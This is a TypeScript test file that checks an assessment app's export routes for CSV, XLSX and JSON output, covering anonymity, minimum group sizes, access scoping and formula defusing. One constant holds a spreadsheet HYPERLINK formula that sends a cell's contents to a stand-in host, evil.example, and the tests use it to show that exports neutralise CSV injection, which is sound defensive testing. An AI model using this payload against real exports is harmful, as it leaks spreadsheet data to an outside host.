import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import * as organizationExportRoute from "@/app/api/v1/organizations/[id]/data/route";
import * as assessmentExportRoute from "@/app/api/v1/assessments/[id]/data/route";
import { disconnectDb, getDb } from "@/lib/db";
import { apiRequest, readResponse, routeParams } from "../fixtures/next-request";
import { answeredRound, type AnsweredRound } from "../fixtures/answered-round";
import { buildWorld, freshOrganization, type World } from "../fixtures/world";

// Exports of answers (long) and results (wide): anonymity and the minimum group hold in CSV,
// XLSX and JSON alike, and a spreadsheet opening the CSV runs no formula.

let world: World;
let organizationId: string;
let anonymous: AnsweredRound;
let named: AnsweredRound;
const SECRET_NAME = "Zed Secretname";
const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")';

type Get = typeof organizationExportRoute.GET;

async function get(
  route: Get,
  id: string,
  query: string,
  options: { bearer?: string; cookie?: string; accept?: string } = {},
) {
  return route(
    apiRequest(`/api/v1/x/${id}/data${query}`, {
      bearer: options.bearer ?? world.a.consultant.bearer,
      cookie: options.cookie,
      headers: options.accept ? { accept: options.accept } : {},
    }),
    routeParams({ id }),
  );
}

beforeAll(async () => {
  world = await buildWorld();
  const organization = await freshOrganization(world.a, "Exports", { grantToExecutive: true });
  organizationId = organization.id;
  named = await answeredRound(world.a.consultant.ctx, organizationId, {
    label: "Named",
    respondents: [
      { role: "business", name: "Ada Named", level: 2, comment: "Named comment." },
      { role: "business", name: "Bo Named", level: 3 },
    ],
  });
  anonymous = await answeredRound(world.a.consultant.ctx, organizationId, {
    label: "Anonymous",
    anonymous: true,
    minGroupSize: 2,
    respondents: [
      { role: "business", name: SECRET_NAME, level: 1, comment: FORMULA, dontKnow: true },
      { role: "business", name: "Another Secret", level: 2 },
      { role: "executive", name: "Lone Executive", level: 4, comment: "Only one of me." },
    ],
  });
}, 60_000);

afterAll(async () => {
  await disconnectDb();
});

describe("answers in long form", () => {
  it("an anonymous round's CSV has no names or ids, leaves out a role under the minimum group, and defuses formulas", async () => {
    const response = await get(assessmentExportRoute.GET, anonymous.assessmentId, "", {
      accept: "text/csv",
    });
    expect(response.status).toBe(200);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const csv = new TextDecoder().decode(bytes);
    expect(csv).not.toContain(SECRET_NAME);
    expect(csv).not.toContain("Another Secret");
    expect(csv).not.toContain("Lone Executive");
    expect(csv).not.toContain("Only one of me.");
    expect(csv).not.toContain('"executive"');
    const responseIds = await getDb().response.findMany({
      where: { assessmentId: anonymous.assessmentId },
      select: { id: true },
    });
    for (const { id } of responseIds) expect(csv).not.toContain(id);
    expect(csv).toContain('"r1"');
    expect(csv).toContain('"r2"');
    // The formula reads back as text: a leading ' and the quotes doubled.
    expect(csv).toContain(`"'${FORMULA.replaceAll('"', '""')}"`);
    expect(csv).toContain('"Don\'t know"');
    // TextDecoder drops the BOM checked above.
    const header = csv.split("\r\n")[0];
    expect(header).toBe(
      '"round_id","round","respondent","respondent_name","role","question_id","question","dimension","level","label","dont_know","not_applicable","comment","answered_at"',
    );
  });

  it("a named round's rows carry the respondent's id and name; JSON is the default", async () => {
    const response = await get(assessmentExportRoute.GET, named.assessmentId, "");
    const { status, body } = await readResponse(response);
    expect(status).toBe(200);
    const answers = (body as { answers: Record<string, unknown>[] }).answers;
    expect(new Set(answers.map((a) => a.respondent_name))).toEqual(
      new Set(["Ada Named", "Bo Named"]),
    );
    const commented = answers.find((a) => a.comment === "Named comment.")!;
    expect(commented).toMatchObject({
      role: "business",
      question_id: named.firstQuestion.business,
      level: 2,
      dont_know: false,
    });
    expect(String(commented.label)).toMatch(/^Level 2: /);
  });
});

describe("results in wide form", () => {
  it("one row per closed round; scores by role only where the role reaches the minimum group", async () => {
    const response = await get(organizationExportRoute.GET, organizationId, "?kind=results");
    const { body } = await readResponse(response);
    const { columns, results } = body as {
      columns: string[];
      results: Record<string, unknown>[];
    };
    expect(results.map((r) => r.round)).toEqual([named.name, anonymous.name]);
    expect(columns).toContain("integration_score");
    expect(columns).toContain("integration_executive");
    const anon = results[1]!;
    expect(anon.withheld_roles).toBe("executive");
    expect(anon.integration_executive).toBeNull();
    expect(anon.integration_business).not.toBeNull();
    expect(anon.anonymous).toBe(true);
    const csv = await (
      await get(organizationExportRoute.GET, organizationId, "?kind=results&format=csv")
    ).text();
    expect(csv.split("\r\n").filter(Boolean)).toHaveLength(3);
  });
});

describe("the XLSX", () => {
  it("holds the answers and the results, one sheet each, with no names from the anonymous round", async () => {
    const response = await get(organizationExportRoute.GET, organizationId, "?format=xlsx");
    expect(response.headers.get("content-type")).toBe(
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    );
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await response.arrayBuffer());
    expect(workbook.worksheets.map((s) => s.name)).toEqual(["Answers", "Results"]);
    const answers = workbook.getWorksheet("Answers")!;
    const json = (await readResponse(await get(organizationExportRoute.GET, organizationId, "")))
      .body as {
      answers: unknown[];
    };
    expect(answers.rowCount).toBe(json.answers.length + 1);
    const cells: string[] = [];
    answers.eachRow((row) => row.eachCell((cell) => cells.push(String(cell.value))));
    expect(cells).not.toContain(SECRET_NAME);
    expect(cells).toContain("Ada Named");
    // Formula-like text is a string cell, never a formula.
    let formulas = 0;
    answers.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) formulas += 1;
      }),
    );
    expect(formulas).toBe(0);
    expect(cells).toContain(FORMULA);
    expect(workbook.getWorksheet("Results")!.rowCount).toBe(3);
  });
});

describe("scoping", () => {
  it("another workspace's organisation or round is 404; an ungranted organisation is 404 for an executive", async () => {
    const other = await get(organizationExportRoute.GET, organizationId, "", {
      bearer: world.b.owner.bearer,
    });
    expect(await readResponse(other)).toMatchObject({
      status: 404,
      body: { error: { code: "not_found" } },
    });
    const otherRound = await get(assessmentExportRoute.GET, anonymous.assessmentId, "?format=csv", {
      bearer: world.b.consultant.bearer,
    });
    expect(otherRound.status).toBe(404);
    const ungranted = await get(organizationExportRoute.GET, world.a.notGranted.id, "", {
      bearer: world.a.executive.bearer,
    });
    expect(ungranted.status).toBe(404);
    const granted = await get(organizationExportRoute.GET, organizationId, "?format=csv", {
      bearer: world.a.executive.bearer,
    });
    expect(granted.status).toBe(200);
  });

  it("an unknown format or kind is 422", async () => {
    expect((await get(organizationExportRoute.GET, organizationId, "?format=pdf")).status).toBe(
      422,
    );
    expect((await get(organizationExportRoute.GET, organizationId, "?kind=names")).status).toBe(
      422,
    );
  });
});
